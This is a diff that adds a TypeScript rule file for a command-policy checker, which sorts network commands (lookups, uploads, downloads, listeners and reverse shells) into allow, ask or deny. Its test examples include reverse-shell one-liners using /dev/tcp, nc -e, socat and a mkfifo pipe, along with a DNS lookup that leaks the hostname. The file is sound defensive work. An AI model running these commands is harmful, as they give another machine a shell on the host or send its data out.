@@ -1,0 +1,158 @@
+/** Rules about the network: what is only looked up, fetched, sent, listened for, or handed a shell. */
+import type { Call } from "../call.ts";
+import { sources, upstream, usesNetwork } from "../flow.ts";
+import { defineRule, type Rule } from "../rule.ts";
+import { blame } from "./subjects.ts";
+
+const LOOKUPS =
+  ("ping ping6 fping traceroute traceroute6 tracepath tracepath6 mtr tcptraceroute dig host nslookup delv drill kdig " +
+    "whois resolveip ssh-keyscan geoiplookup rmadison who-permits-upload who-uploads grep-excuses wnpp-alert rc-alert")
+    .split(" ");
+
+const CLIENTS =
+  ("curl wget wget2 http https xh xhs httpie aria2c lftp ftp tftp ncftp telnet w3m lynx links links2 elinks axel " +
+    "youtube-dl yt-dlp httrack nc ncat netcat nc.openbsd nc.traditional socat socat1 scp pscp sftp rsync mail mailx sendmail mutt " +
+    "msmtp swaks s-nail ssh mosh autossh openssl nmap").split(" ");
+
+const SHELLS = new Set(
+  "sh bash dash zsh ksh mksh ash fish csh tcsh python python3 perl ruby php node lua".split(" "),
+);
+
+/** Data can leave in the name that is looked up. */
+function carries(call: Call): boolean {
+  return call.inside.length > 0 || upstream(call).length > 0 ||
+    call.args.some((word) => word.unknown === "computed" || word.unknown === "listing");
+}
+
+const lookup = defineRule({
+  id: "network.lookup",
+  verdict: "allow",
+  reason: "Only asks the network for a name, a route or a public key",
+  programs: LOOKUPS,
+  covers: ["network"],
+  when: (call) => usesNetwork(call) && !carries(call) && !call.options.has("-f", "--flood"),
+  match: ["ping -c 1 example.com", "dig +short example.com", "ssh-keyscan -t rsa host"],
+  notMatch: ["dig $(cat x).e.example", "ping -f 10.0.0.1"],
+});
+
+const carried = defineRule({
+  id: "network.lookup_computed",
+  verdict: "ask",
+  reason: "Looks up a name that is only known when it runs, and that others can read",
+  programs: LOOKUPS,
+  when: (call) => usesNetwork(call) && carries(call),
+  match: ["dig $(hostname).e.example", "xargs host < names"],
+  notMatch: ["dig example.com"],
+});
+
+/** The call passes a shell's input or output over the network. */
+function shellOverNetwork(call: Call): boolean {
+  const redirected = call.effects.some((effect) => effect.kind === "network" && effect.redirect === true);
+  if (redirected && SHELLS.has(call.name)) return true;
+  if (!usesNetwork(call)) return false;
+  if (
+    call.effects.some((effect) => effect.kind === "execute") &&
+    /^(?:nc|ncat|netcat|nc\..*|socat1?)$/.test(call.name)
+  ) return true;
+  return upstream(call).some((source) =>
+    SHELLS.has(source.name) && source.code.some((code) => code.text === null && code.file === null)
+  );
+}
+
+const reverseShell = defineRule({
+  id: "network.reverse_shell",
+  verdict: "deny",
+  reason: "Gives another machine a shell on this one",
+  safer: "ssh, with a person at the other end",
+  when: shellOverNetwork,
+  match: [
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "ncat -lvp 4444 --exec /bin/bash",
+    "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
+    "mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 4444 > f",
+  ],
+  notMatch: ["nc -zv localhost 80", "ls | nc 10.0.0.1 80", "echo bash | nc 10.0.0.1 80"],
+});
+
+const listens = (call: Call): boolean =>
+  /^n(?:c|cat|etcat)/.test(call.name) ? call.options.has("-l", "--listen") : /^socat/.test(call.name) &&
+    call.args.some((word) => /^[a-z0-9]*-l(?:isten)?:|listen/i.test(word.value ?? ""));
+
+const listen = defineRule({
+  id: "network.listen",
+  verdict: "ask",
+  reason: "Waits for other machines to connect",
+  programs: ["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "socat1"],
+  when: listens,
+  match: ["nc -l 8080", "socat TCP-LISTEN:80,fork -"],
+  notMatch: ["nc host 80"],
+});
+
+/** Options that make the client send a body or a file. */
+const SENDING: Readonly<Record<string, readonly string[]>> = {
+  curl: [
+    "-d",
+    "--data",
+    "--data-ascii",
+    "--data-binary",
+    "--data-raw",
+    "--data-urlencode",
+    "--json",
+    "-F",
+    "--form",
+    "--form-string",
+    "-T",
+    "--upload-file",
+  ],
+  wget: ["--post-data", "--post-file", "--body-data", "--body-file"],
+};
+
+function uploads(call: Call): boolean {
+  if (!usesNetwork(call)) return false;
+  const own = SENDING[call.name === "wget2" ? "wget" : call.name];
+  if (own !== undefined && call.options.has(...own)) return true;
+  if (/^(?:scp|rsync|pscp)$/.test(call.name)) return !call.effects.some((effect) => effect.kind === "write");
+  const method = call.options.value("-X", "--request", "--method")?.value ?? "GET";
+  if (own !== undefined) return !/^(?:GET|HEAD|OPTIONS)$/i.test(method);
+  return /^n(?:c|cat|etcat)/.test(call.name) && sources(call).length > 0;
+}
+
+const upload = defineRule({
+  id: "network.upload",
+  verdict: "ask",
+  reason: "Sends data to another machine",
+  programs: ["curl", "wget", "wget2", "scp", "pscp", "rsync", "nc", "ncat", "netcat"],
+  when: uploads,
+  match: [
+    "curl -d a=b https://e.example",
+    "curl -X DELETE https://e.example/x",
+    "scp a box:",
+    "cat a | nc host 80",
+    "wget --post-data a http://e",
+  ],
+  notMatch: ["curl https://e.example", "scp box:a .", "wget -qO- http://e"],
+});
+
+const download = defineRule({
+  id: "network.download",
+  verdict: "ask",
+  reason: "Fetches a file from another machine",
+  programs: CLIENTS,
+  when: (call) => usesNetwork(call) && blame(call, ["write"], (effect) => effect.redirect !== true),
+  match: ["curl -fsSL https://example.com/i.sh -o /tmp/i.sh", "wget http://e.example/x", "scp box:a ."],
+  notMatch: ["curl https://e.example", "wget -qO- http://e"],
+});
+
+const request = defineRule({
+  id: "network.request",
+  verdict: "ask",
+  reason: "Reaches another machine",
+  programs: CLIENTS,
+  when: (call) => blame(call, ["network"], () => true),
+  match: ["curl https://e.example", "nc -zv localhost 80", "ssh host ls"],
+  notMatch: ["curl --version", "curl file:///tmp/x"],
+});
+
+/** Rules about the network. */
+export const network: readonly Rule[] = [reverseShell, lookup, carried, upload, download, listen, request];
